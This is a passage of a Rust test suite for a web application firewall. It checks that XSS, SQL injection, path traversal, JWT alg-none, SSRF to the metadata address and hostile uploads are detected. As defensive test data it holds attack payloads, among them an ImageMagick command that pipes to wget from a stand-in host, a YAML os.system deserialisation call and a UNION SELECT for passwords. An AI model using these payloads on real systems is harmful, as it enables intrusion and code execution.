            b"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        ));
        assert_eq!((v.inputs_inspected, v.inputs_remembered), (1, 2));
        let rfi = waf(Settings::default());
        assert!(found(&rfi.inspect(&requests[0])).contains(&(
            RFI_INCLUDE_PARAM,
            "query:mosConfig_absolute_path".to_owned()
        )));
        assert!(
            !found(&rfi.inspect(&requests[1]))
                .iter()
                .any(|(r, _)| *r == RFI_INCLUDE_PARAM)
        );
        // The excluded label stays clean while its twin, with the same value, is caught.
        let l = waf(Settings {
            exclusions: vec![Exclusion {
                rules: RuleSelector::Family(Family::Xss),
                location: Some(LocationFilter::Exact("json:/a".into())),
            }],
            ..Settings::default()
        });
        for _ in 0..2 {
            let v = l.inspect(&requests[3]);
            assert!(v.matches.iter().all(|m| m.location != "json:/a"));
            assert!(v.matches.iter().any(|m| m.location == "json:/b"));
        }
    }

    #[test]
    fn remembered_containers_still_count_against_the_budgets() {
        let limits = crate::Limits {
            max_inputs: 6,
            ..crate::Limits::default()
        };
        let settings = Settings {
            limits,
            ..Settings::default()
        };
        let (cached, fresh) = (
            waf(settings.clone()),
            waf(Settings {
                cache_entries: 0,
                ..settings
            }),
        );
        let body = br#"{"a":"x","b":"y"}"#;
        let small = RequestView::new("POST", b"/c")
            .header("Content-Type", "application/json")
            .body(body);
        // Two more inputs before the body: path, 3 headers, then 4 from the body is 8 > 6.
        let big = RequestView::new("POST", b"/c")
            .header("Content-Type", "application/json")
            .header("X-A", "a")
            .header("X-B", "b")
            .body(body);
        for r in [&small, &small, &big, &big, &small] {
            let (a, b) = (cached.inspect(r), fresh.inspect(r));
            assert_eq!(found(&a), found(&b));
            assert_eq!((a.score, a.blocked), (b.score, b.blocked));
        }
        let v = cached.inspect(&big);
        assert!(
            v.matches.iter().any(|m| m.rule_id == rules::PROTO_LIMIT),
            "{:?}",
            v.matches
        );
        // The small request's body was answered whole: its 4 inputs are remembered.
        let v = cached.inspect(&small);
        assert_eq!(v.inputs_inspected, 0);
        assert!(v.inputs_remembered >= 4, "{}", v.inputs_remembered);
    }

    #[test]
    fn json_keys_repeated_or_nested_too_deep_are_still_seen() {
        let req = json_post;
        let w = waf(Settings::default());
        // A repeated key: the parser keeps the last value, an application may read the first.
        let v = w.inspect(&req(br#"{"q":"<script>alert(1)</script>","q":"ok"}"#));
        assert!(v.blocked, "{:?}", v.matches);
        // Nesting past the depth limit is reported, and the rest of the body still parses.
        let shallow = waf(Settings {
            limits: crate::Limits {
                max_json_depth: 2,
                ..crate::Limits::default()
            },
            ..Settings::default()
        });
        for deep in [&br#"{"a":{"b":{"c":1}}}"#[..], br#"{"a":{"b":{"c":"x"}}}"#] {
            let v = shallow.inspect(&req(deep));
            assert!(
                v.matches
                    .iter()
                    .any(|m| m.rule_id == crate::rules::PROTO_LIMIT),
                "a scalar nested too deep: {:?}",
                v.matches
            );
        }
        // A document that breaks off is inspected whole, once: none of what was read before
        // the error counts as inputs (so a long cut-off document does not also overflow them).
        let many: String = (0..40).map(|i| format!("\"k{i}\":1,")).collect();
        let cut = format!("{{{many}\"x\":\"<script>alert(1)</script>\",");
        let few = waf(Settings {
            limits: crate::Limits {
                max_inputs: 10,
                ..crate::Limits::default()
            },
            ..Settings::default()
        });
        let body: &'static [u8] = Box::leak(cut.into_bytes().into_boxed_slice());
        let v = few.inspect(&req(body));
        assert!(v.blocked, "{:?}", v.matches);
        assert!(
            v.matches.iter().all(
                |m| !m.location.starts_with("json:/") && m.rule_id != crate::rules::PROTO_LIMIT
            ),
            "{:?}",
            v.matches
        );
        assert!(
            v.matches.iter().any(|m| m.location == "body"),
            "{:?}",
            v.matches
        );
        let v = shallow.inspect(&req(br#"{"a":{"b":{"c":{"d":1}}},"e":"x"}"#));
        assert!(
            v.matches
                .iter()
                .any(|m| m.rule_id == crate::rules::PROTO_LIMIT),
            "{:?}",
            v.matches
        );
        assert!(
            !v.matches
                .iter()
                .any(|m| m.rule_id == crate::rules::PROTO_BODY_MALFORMED)
        );
    }

    #[test]
    fn paranoia_gates_rules() {
        let req = RequestView::new("GET", b"/?q=select+name+from+users")
            .header("User-Agent", "x")
            .header("Host", "h");
        assert!(!waf(Settings::with_paranoia(1)).inspect(&req).blocked);
        assert!(waf(Settings::with_paranoia(2)).inspect(&req).blocked);
        assert!(Waf::new(Settings::with_paranoia(5)).is_err());
        assert!(
            Waf::new(Settings {
                threshold: 0,
                ..Settings::default()
            })
            .is_err()
        );
    }

    #[test]
    fn missing_user_agent_only_counts_at_paranoia_three() {
        let req = RequestView::new("GET", b"/").header("Host", "h");
        assert!(w_matches(&waf(Settings::with_paranoia(1)), &req).is_empty());
        assert!(
            w_matches(&waf(Settings::with_paranoia(3)), &req).contains(&rules::PROTO_MISSING_UA)
        );
    }

    fn w_matches(w: &Waf, req: &RequestView<'_>) -> Vec<u32> {
        w.inspect(req).matches.iter().map(|m| m.rule_id).collect()
    }

    #[test]
    fn never_panics_on_odd_bytes() {
        let w = waf(Settings::with_paranoia(4));
        // A URL whose 255-byte host budget ends inside a two-byte character.
        let mut target = b"/?u=http://".to_vec();
        for _ in 0..128 {
            target.extend_from_slice(b"%C3%A9");
        }
        let _ = w.inspect(&RequestView::new("GET", &target));
        let body = format!("{{\"u\":\"http://{}?\"}}", "\u{e9}".repeat(200));
        let _ = w.inspect(
            &RequestView::new("POST", b"/")
                .header("Content-Type", "application/json")
                .body(body.as_bytes()),
        );
        let bodies: [&[u8]; 4] = [b"\xff\xfe\x00", b"%", b"{\"a\":[[[[", b"--x\r\n\r\n--x--"];
        for body in bodies {
            for ct in [
                "application/json",
                "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded",
                "text/xml",
                "\u{ff}",
            ] {
                let req = RequestView::new("POST", b"/\xff%%%u%c0?\xff=\x00&%=%")
                    .header("Content-Type", ct.as_bytes())
                    .header(&b"\xff"[..], &b"\r\n"[..])
                    .header("Cookie", ";;=;a")
                    .body(body);
                let _ = w.inspect(&req);
            }
        }
    }

    #[test]
    fn bearer_jwt_headers_are_read() {
        use base64::Engine as _;
        let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
        let token = |head: &str| format!("Bearer {}.{}.c2ln", b64(head), b64(r#"{"sub":"u1"}"#));
        let w = waf(Settings::default());
        for _ in 0..2 {
            let ids = |head: &str| {
                let auth = token(head);
                found(&w.inspect(
                    &RequestView::new("GET", b"/me").header("Authorization", auth.as_bytes()),
                ))
            };
            let traversal = ids(r#"{"alg":"HS256","kid":"../../../../dev/null"}"#);
            assert!(
                traversal
                    .iter()
                    .any(|(r, l)| *r == rules::LFI_TRAVERSAL
                        && l == "header:authorization:jose:/kid"),
                "{traversal:?}"
            );
            let none = ids(r#"{"alg":"None","typ":"JWT"}"#);
            assert!(
                none.iter().any(|(r, _)| *r == rules::PROTO_JWT_ALG_NONE),
                "{none:?}"
            );
            let jku = ids(r#"{"alg":"RS256","jku":"http://169.254.169.254/keys"}"#);
            assert!(
                jku.iter().any(|(r, _)| *r == rules::SSRF_METADATA),
                "{jku:?}"
            );
            assert!(ids(r#"{"alg":"RS256","kid":"2024-06-rotation","typ":"JWT"}"#).is_empty());
            // A detached JWS in a header of its own.
            let detached = token(r#"{"alg":"none","b64":false}"#).replace("Bearer ", "");
            let (head, _) = detached.split_once('.').expect("a token");
            let jws = w.inspect(
                &RequestView::new("POST", b"/pisp/payments")
                    .header("x-jws-signature", format!("{head}..").as_bytes()),
            );
            assert!(
                found(&jws).contains(&(
                    rules::PROTO_JWT_ALG_NONE,
                    "header:x-jws-signature:jose".to_owned()
                )),
                "{jws:?}"
            );
        }
        // Of Basic credentials only the user part is read, and never quoted (here it is
        // `../../etc/passwd`, without a password).
        let basic = w.inspect(
            &RequestView::new("GET", b"/")
                .header("Authorization", "Basic Li4vLi4vZXRjL3Bhc3N3ZA=="),
        );
        assert!(
            found(&basic).contains(&(rules::LFI_TRAVERSAL, "header:authorization:user".to_owned())),
            "{basic:?}"
        );
        assert!(basic.matches.iter().all(|m| m.excerpt.is_empty()));
        let fine = w.inspect(
            &RequestView::new("GET", b"/").header("Authorization", "Basic YWxpY2U6Li4vLi4v"),
        );
        assert!(found(&fine).is_empty(), "a password is not read: {fine:?}");
        // A JWT in a parameter or a JSON field (an OAuth assertion, an ID token) is read too.
        let assertion = token(r#"{"alg":"RS256","jku":"http://169.254.169.254/latest/"}"#);
        let assertion = &assertion["Bearer ".len()..];
        let read_at = |path: &'static [u8], ct: &str, body: String, label: &str| {
            let v = w.inspect(
                &RequestView::new("POST", path)
                    .header("Content-Type", ct)
                    .body(body.as_bytes()),
            );
            assert!(
                found(&v)
                    .iter()
                    .any(|(r, l)| *r == rules::SSRF_METADATA && l == label),
                "{label}: {:?}",
                found(&v)
            );
        };
        read_at(
            b"/oauth/token",
            "application/x-www-form-urlencoded",
            format!("grant_type=jwt-bearer&assertion={assertion}"),
            "form:assertion:jose:/jku",
        );
        read_at(
            b"/session",
            "application/json",
            format!(r#"{{"id_token":"{assertion}"}}"#),
            "json:/id_token:jose:/jku",
        );
        // A bearer token with SQL's syntax in it is refused, without quoting it.
        let bearer = |t: &str| {
            let auth = format!("Bearer {t}");
            w.inspect(&RequestView::new("GET", b"/").header("Authorization", auth.as_bytes()))
        };
        let sql = bearer("';SELECT/**/SLEEP(5)--/**/");
        assert_eq!(
            found(&sql),
            vec![(
                rules::PROTO_BEARER_SYNTAX,
                "header:authorization".to_owned()
            )]
        );
        assert!(!sql.matches[0].excerpt.contains("SELECT"));
        for fine in [
            "glpat-xJ3k_9Qz",
            "ya29.a0AfB_byC+/x==",
            "xoxb-1234-5678-abcd~",
        ] {
            assert!(found(&bearer(fine)).is_empty(), "{fine}");
        }
    }

    #[test]
    fn text_after_a_quoted_file_name_is_inspected_with_it() {
        let body = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"\"><svg onload=alert(1)>.png\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n";
        let w = waf(Settings::default());
        let v = w.inspect(
            &RequestView::new("POST", b"/up")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(body),
        );
        assert!(v.blocked, "{:?}", found(&v));
    }

    #[test]
    fn uploads_by_what_they_are() {
        let w = waf(Settings::default());
        let upload = |ct: &str, content: &str| {
            let body = format!(
                "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\nContent-Type: {ct}\r\n\r\n{content}\r\n--b--\r\n"
            );
            w.inspect(
                &RequestView::new("POST", b"/up")
                    .header("Content-Type", "multipart/form-data; boundary=b")
                    .body(body.as_bytes()),
            )
            .blocked
        };
        // An image that is text (ImageMagick drawing commands) and configuration files.
        assert!(upload(
            "image/jpeg",
            "push graphic-context\nfill 'url(https://x.example/a.jpg\"|wget http://x.example/s -O /tmp/s\")'\npop graphic-context"
        ));
        assert!(upload(
            "application/x-yaml",
            "a: !!python/object/apply:os.system [\"id\"]"
        ));
        assert!(upload(
            "application/edi-x12",
            "N1*ST*ACME' UNION SELECT username, password FROM partners--~"
        ));
        // A real image's bytes are not read as text.
        let mut png = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n".to_vec();
        png.extend_from_slice(b"|wget http://x.example/s -O /tmp/s\r\n--b--\r\n");
        let v = w.inspect(
            &RequestView::new("POST", b"/up")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(&png),
        );
        assert!(!v.blocked, "{:?}", found(&v));
        // SOAP with attachments: the root part names no field and declares 8bit.
        let mtom = "--m\r\nContent-Type: application/xop+xml; type=\"application/soap+xml\"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\"><soap:Body><m:Upload xmlns:m=\"urn:x\">report</m:Upload></soap:Body></soap:Envelope>\r\n--m--\r\n";
        let v = w.inspect(
            &RequestView::new("POST", b"/soap")
                .header(
                    "Content-Type",
                    "multipart/related; boundary=m; type=\"application/xop+xml\"",
                )
                .body(mtom.as_bytes()),
        );
        assert!(found(&v).is_empty(), "{:?}", found(&v));
    }
}
